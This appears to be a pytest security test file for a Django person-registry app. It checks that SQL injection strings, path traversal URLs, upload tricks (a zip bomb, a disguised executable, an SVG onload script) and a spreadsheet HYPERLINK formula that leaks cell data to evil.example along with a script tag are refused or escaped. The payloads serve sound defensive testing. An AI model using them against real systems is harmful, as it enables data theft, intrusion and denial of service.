"""Hostile input: SQL injection, path traversal, spreadsheet formulas and hostile uploads change nothing."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from safepassage.audit.verify import verify_chain
from safepassage.registry.models import DocumentScan, NameForm, Person

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE registry_person; --",
    '" OR ""="',
    "1 UNION SELECT username, password FROM auth_user --",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\x00\\x1a",
    "김' OR 'a'='a",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_in_searches_is_only_ever_a_search_term(
    text: str, users: Any, person: Any, other_person: Any
) -> None:
    carla = Client()
    carla.force_login(users["carla"])
    page = carla.get(reverse("registry:person_list"), {"q": text})
    assert 200 == page.status_code
    assert "SP-TEST-0002" not in page.content.decode()
    api = carla.get("/api/v1/persons/", {"q": text})
    assert 200 == api.status_code
    assert [] == [p for p in api.json()["results"] if p["case_number"] == "SP-TEST-0002"]
    assert 2 == Person.objects.count()


@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_in_a_name_is_stored_and_shown_as_text(text: str, users: Any, person: Any) -> None:
    lev = Client()
    lev.force_login(users["lev"])
    url = reverse("registry:name_add", args=[person.pk])
    lev.post(url, {"text": text, "kind": "alias", "recorder_language": "en", "source": "test"})
    assert NameForm.objects.filter(person=person).count() == 3
    assert text in [n.text for n in NameForm.objects.filter(person=person)]
    assert verify_chain().ok


def test_a_formula_in_a_name_is_escaped_on_the_page(users: Any, person: Any, api: Any) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")<script>alert(1)</script>'
    response = api("lev").post(
        f"/api/v1/persons/{person.pk}/names/", {"text": formula, "kind": "alias", "recorder_language": "en"}
    )
    assert 201 == response.status_code
    lev = Client()
    lev.force_login(users["lev"])
    body = lev.get(reverse("registry:person_detail", args=[person.pk])).content.decode()
    assert "<script>alert(1)</script>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


@pytest.mark.parametrize(
    "path",
    [
        "/static/../secret_key",
        "/static/..%2f..%2fsecret_key",
        "/static/%2e%2e/%2e%2e/keys/kek",
        "/persons/..%2f",
    ],
)
def test_path_traversal_reaches_no_file_of_the_home(path: str, users: Any) -> None:
    client = Client()
    client.force_login(users["lev"])
    response = client.get(path)
    assert response.status_code in (301, 302, 400, 404)
    body = b"".join(response) if response.streaming else response.content
    assert b"BEGIN PRIVATE KEY" not in body and b'"format"' not in body


def zip_bomb() -> bytes:
    """A 64 MiB file of zeros in a zip of about 64 KiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("scan.pdf", b"\0" * (64 * 1024 * 1024))
    return buffer.getvalue()


def upload(api: Any, person: Any, name: str, data: bytes) -> Any:
    doc = person.documents.get()
    url = f"/api/v1/persons/{person.pk}/documents/{doc.pk}/scans/"
    return api("lev").post(url, {"file": SimpleUploadedFile(name, data), "source": "t"}, format="multipart")


def test_a_zip_bomb_named_pdf_is_refused_by_type_without_being_opened(
    api: Any, person: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = zip_bomb()
    assert len(bomb) < 200_000

    def never(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the upload was opened as a zip archive")

    monkeypatch.setattr(zipfile, "ZipFile", never)
    response = upload(api, person, "passport.pdf", bomb)
    assert 400 == response.status_code and "not an accepted scan" in response.content.decode()
    assert 0 == DocumentScan.objects.count()


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("scan.pdf", b"MZ\x90\x00 an executable", "not an accepted scan"),
        ("scan.png", b"<svg onload=alert(1)>", "not an accepted scan"),
        ("scan.pdf", b"", "empty"),
        ("../../../../etc/passwd", b"root:x:0:0", "not an accepted scan"),
    ],
)
def test_wrong_types_and_empty_files_are_refused(
    api: Any, person: Any, name: str, data: bytes, message: str
) -> None:
    response = upload(api, person, name, data)
    assert 400 == response.status_code and message in response.content.decode()
    assert 0 == DocumentScan.objects.count()


def test_a_file_over_the_limit_is_refused(api: Any, person: Any, settings: Any) -> None:
    settings.SCAN_MAX_BYTES = 1000
    response = upload(api, person, "big.pdf", b"%PDF-1.4 " + b"x" * 2000)
    assert 400 == response.status_code and "the limit is 1000 bytes" in response.content.decode()


def test_a_traversal_file_name_stays_a_label_and_the_download_names_no_path(
    users: Any, api: Any, person: Any
) -> None:
    response = upload(api, person, "../../../../home/keys/kek.pdf", b"%PDF-1.4 fine")
    assert 201 == response.status_code
    scan = DocumentScan.objects.get()
    client = Client()
    client.force_login(users["lev"])
    download = client.get(reverse("registry:scan_download", args=[person.pk, scan.pk]))
    assert ("attachment", b"%PDF-1.4 fine") == (download["Content-Disposition"], download.content)
